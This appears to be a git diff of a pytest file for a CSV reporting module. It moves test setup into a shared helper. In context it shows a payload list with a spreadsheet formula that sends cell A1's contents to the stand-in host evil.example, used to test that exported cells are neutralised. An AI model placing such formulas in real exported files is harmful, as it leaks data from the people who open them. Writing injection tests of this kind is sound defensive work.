@@ -11,11 +11,10 @@ import pytest
 from reporting.districts import report_districts, write_district_pack
 from reporting.people_csv import neutralise_cells
 from reporting.report import write_report
-from tests.lab.test_calling import AS_OF, P, build, ingest
+from tests.builders import AS_OF, P, build, ingest, open_test_round
 from kernel.secrets import id_hash_key
 from warehouse.views import define_views
 from warehouse.connection import open_warehouse
-from warehouse.writer import open_round
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
@@ -41,13 +40,7 @@ def payload_register(root):
 
 @pytest.fixture
 def report_out(tmp_path, cfg):
-    from datetime import datetime
-    from zoneinfo import ZoneInfo
-
-    sh = ZoneInfo("Asia/Shanghai")
-    with open_warehouse(cfg.warehouse.path, id_hash_key()) as con:
-        open_round(con, round_id="R1", starts_at=datetime(2022, 4, 4, 6, tzinfo=sh),
-                   ends_at=datetime(2022, 4, 4, 22, tzinfo=sh), districts=None, pool_size=10, run_id=None)
+    open_test_round(cfg)
     root = build(tmp_path / "in")
     payload_register(root)
     ingest(root, cfg)
